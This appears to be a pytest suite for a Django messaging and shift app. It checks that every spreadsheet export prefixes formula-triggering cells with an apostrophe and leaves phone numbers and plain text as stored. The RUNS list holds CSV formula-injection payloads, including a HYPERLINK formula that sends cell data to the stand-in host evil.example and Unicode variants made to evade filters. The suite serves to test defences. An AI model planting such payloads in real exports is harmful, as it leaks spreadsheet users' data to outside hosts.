"""The review's "spreadsheet formulas" finding, replayed through every export: the message log,
incidents, contacts, the allow-list and the shift board, in each spreadsheet format the admin
offers. One table of payloads: what a spreadsheet would run comes out behind a ``'``; plain
numbers (an E.164 phone, ``-12.5``) and text come out exactly as stored."""

from __future__ import annotations

import csv
import io
import re

import pytest

from incidents.models import Incident
from messaging.models import AllowListEntry, Contact, OutboundMessage
from messaging.values.spreadsheets import spreadsheet_safe
from shifts.models import Shift

pytestmark = pytest.mark.django_db

RUNS = [  # a spreadsheet would start a formula with each of these
    "=1+1", '=HYPERLINK("http://evil.example/?d="&A1,"Details")', "==HYPERLINK(\"http://x\")", "+1+1",
    "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "﹦1+1", "﹢1+1", "﹣1+1", "﹫SUM(A1)",
    "  =1+1", " @SUM(A1)", "\u3000＝1+1", "\u00a0=1+1",
    "+１２０６５５５０１２３",  # full-width digits are not a plain number
]
DATA = ["+12065550123", "-12.5", "-3", "+44", "12.5", "Ops night desk", "a=b", "x@example.com", ""]


@pytest.mark.parametrize("text", RUNS)
def test_a_cell_a_spreadsheet_would_run_is_defused(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", DATA)
def test_plain_numbers_and_text_are_left_as_they_are(text):
    assert spreadsheet_safe(text) == text


def _csv(response, delimiter=",") -> list[dict]:
    assert response.status_code == 200, response.content[:300]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode()), delimiter=delimiter))


def _admin_export(client, path: str, resource_prefix: str, fmt: str) -> list[dict]:
    form = client.get(path).content.decode()
    columns = set(re.findall(rf'name="({resource_prefix}_\w+)"', form))
    formats = dict((label.strip().lower(), value) for value, label in
                   re.findall(r'<option value="(\d+)"[^>]*>\s*([a-z]+)\s*</option>', form))
    response = client.post(path, {"format": formats[fmt], "resource": "0", **dict.fromkeys(columns, "on")})
    return _csv(response, "\t" if fmt == "tsv" else ",")


def expected(text: str) -> str:
    return text if text in DATA else "'" + text


def test_the_message_log_export_defuses_every_payload_and_keeps_phones(admin_client):
    for text in RUNS + DATA:
        OutboundMessage.objects.create(channel="sms", recipient="+12065550123", sender="+12065550100", body=text,
                                       subject=text, status="delivered")
    rows = _csv(admin_client.get("/admin/export/messages.csv"))
    assert sorted(r["body"] for r in rows) == sorted(expected(t) for t in RUNS + DATA)
    assert all(r["subject"] == r["body"] for r in rows)
    assert {(r["recipient"], r["sender"]) for r in rows} == {("+12065550123", "+12065550100")}


def test_the_incident_export_defuses_every_payload(admin_client):
    for text in RUNS + DATA:
        Incident.objects.create(description=text, url="", created_by=text)
    rows = _csv(admin_client.get("/admin/export/incidents.csv"))
    assert sorted(r["description"] for r in rows) == sorted(expected(t) for t in RUNS + DATA)


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_the_contact_export_defuses_every_payload_and_phones_stay_reimportable(admin_client, fmt):
    for i, text in enumerate(RUNS + DATA):
        Contact.objects.create(name=text, phone=f"+1206555{i:04d}")
    rows = _admin_export(admin_client, "/admin/messaging/contact/export/", "contactresource", fmt)
    assert sorted(r["name"] for r in rows) == sorted(expected(t) for t in RUNS + DATA)
    assert sorted(r["phone"] for r in rows) == sorted(f"+1206555{i:04d}" for i in range(len(RUNS + DATA)))


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_the_allow_list_export_keeps_phones(admin_client, fmt):
    AllowListEntry.objects.create(phone="+12065550123")
    rows = _admin_export(admin_client, "/admin/messaging/allowlistentry/export/", "allowlistresource", fmt)
    assert [r["phone"] for r in rows] == ["+12065550123"]


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_the_shift_export_defuses_every_payload(admin_client, fmt):
    for i, text in enumerate(RUNS + DATA):
        Shift.objects.create(code=f"EVIL{i:03d}", info=text, location=text, booked_phone="+12065550123")
    rows = _admin_export(admin_client, "/admin/shifts/shift/export/", "shiftresource", fmt)
    assert sorted(r["info"] for r in rows) == sorted(expected(t) for t in RUNS + DATA)
    assert all(r["location"] == r["info"] for r in rows)
    assert {r["booked_phone"] for r in rows} == {"+12065550123"}
